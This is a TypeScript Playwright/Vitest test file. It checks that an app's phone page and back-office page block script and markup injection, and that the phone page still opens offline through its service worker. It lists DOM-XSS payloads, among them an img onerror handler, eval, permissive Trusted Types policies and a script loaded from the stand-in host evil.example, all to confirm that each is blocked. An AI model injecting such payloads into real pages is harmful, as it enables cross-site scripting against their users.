import { chromium } from 'playwright-core';
import type { Browser, Page } from 'playwright-core';
import { afterAll, describe, expect } from 'vitest';
import type { DemoServer } from './demo-server.ts';
import { test } from './stage.ts';

let server: DemoServer;
let browser: Browser;
test.beforeAll(async ({ stage }) => {
  ({ server } = stage);
  browser = await chromium.launch({
    executablePath: process.env['CHROMIUM_PATH'] ?? '/usr/bin/chromium',
    args: ['--no-sandbox'],
  });
});
afterAll(async () => {
  await browser.close();
});

/** What a hole in the page would let somebody do; each ends in `window.wasHere`. */
const tricks: readonly string[] = [
  `document.body.innerHTML = '<img src=x onerror="window.wasHere = 1">'`,
  `document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`,
  `document.write('<b>x</b>')`,
  `document.body.setAttribute('onclick', 'window.wasHere = 1')`,
  `document.createElement('script').text = 'window.wasHere = 1'`,
  `document.createElement('script').src = 'data:text/javascript,window.wasHere=1'`,
  `document.createElement('script').src = 'https://evil.example/x.js'`,
  `document.createElement('iframe').srcdoc = '<script>parent.wasHere = 1</script>'`,
  `new DOMParser().parseFromString('<b>x</b>', 'text/html')`,
  `document.createRange().createContextualFragment('<b>x</b>')`,
  `trustedTypes.createPolicy('another', { createHTML: (text) => text })`,
  `trustedTypes.createPolicy('default', { createHTML: (text) => text })`,
  `new Worker('data:text/javascript,postMessage(1)')`,
  `new Worker('./assets/another.js')`,
  `eval('window.wasHere = 1')`,
  `new Function('window.wasHere = 1')()`,
];

/**
 * Does one of the tricks, which were put into the page as its own functions. From a timer: what a test runs
 * itself is free of the page's policy.
 */
const attempt = (page: Page, trick: string): Promise<void> =>
  page.evaluate(
    (name) =>
      new Promise((resolve, reject) => {
        const { tricks: ways } = globalThis as unknown as { tricks: Record<string, () => void> };
        setTimeout(() => {
          try {
            ways[name]?.();
            resolve();
          } catch (error) {
            reject(new Error(String(error)));
          }
        });
      }),
    trick,
  );

describe.each([
  ['the phone', '/', 'Spot'],
  ['the back office', '/admin/', 'Sign in'],
])('the page of %s', (_what, path, text) => {
  test('works, and makes neither markup nor script of a text', async () => {
    const page = await browser.newPage({ locale: 'en-US' });
    const errors: string[] = [];
    page.on('pageerror', ({ message }) => errors.push(message));
    page.on('console', (message) => {
      if (/Trusted|Content Security Policy/.test(message.text())) errors.push(message.text());
    });
    const table = tricks.map((trick) => `${JSON.stringify(trick)}: () => { ${trick}; }`);
    await page.addInitScript(`globalThis.tricks = { ${table.join(', ')} };`);
    await page.goto(server.url + path);
    await page.getByText(text).first().waitFor();
    expect(errors).toEqual([]);
    const done: string[] = [];
    for (const trick of tricks) {
      await attempt(page, trick).then(
        () => done.push(trick),
        () => undefined,
      );
    }
    expect(done).toEqual([]);
    expect(await page.evaluate(() => 'wasHere' in globalThis)).toBe(false);
    await page.close();
  });
});

test('the phone still has its worker, which opens it without a network', async () => {
  const context = await browser.newContext({ locale: 'en-US' });
  const page = await context.newPage();
  await page.goto(server.url);
  await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
  await page.reload();
  await context.setOffline(true);
  await page.reload();
  await page.getByText('Spot').first().waitFor();
  await context.close();
});
